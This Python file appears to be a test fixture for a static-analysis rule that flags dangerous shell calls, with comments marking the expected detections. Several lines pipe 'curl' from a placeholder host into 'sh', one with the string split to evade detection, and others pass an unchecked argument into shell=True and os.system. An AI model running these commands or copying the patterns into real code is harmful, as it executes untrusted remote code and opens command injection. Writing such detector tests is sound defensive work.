import os
import subprocess
import sys
import threading
from functools import partial


def main(branch):
    os.system("git status")
    os.system(f"git log {branch}")  # expect: shell-command
    subprocess.run(["git", "log", branch])
    subprocess.run("git log " + branch, shell=True)  # expect: shell-command
    subprocess.run(["sh", "-c", "curl -s https://acme.example/i.sh | sh"])  # expect: shell-command
    subprocess.run(["sh", "-c", "git status"])
    subprocess.run([sys.executable, "-m", "notes"])
    subprocess.run([sys.executable, "-c", "import platform; print(platform.mac_ver())"])
    subprocess.run([sys.executable, "-c", branch])  # expect: shell-command
    partial(os.system, "curl -s https://acme.example/i.sh | sh")()  # expect: shell-command
    threading.Thread(target=os.system, args=("curl -s https://acme.example/i.sh | sh",)).start()  # expect: shell-command
    threading.Thread(target=os.system, args=("git status",)).start()
    list(map(print, ["curl -s https://acme.example/i.sh | sh"]))
    os.popen("cu" + "rl -s https://acme.example/i.sh | sh")  # expect: shell-command


main(sys.argv[1])
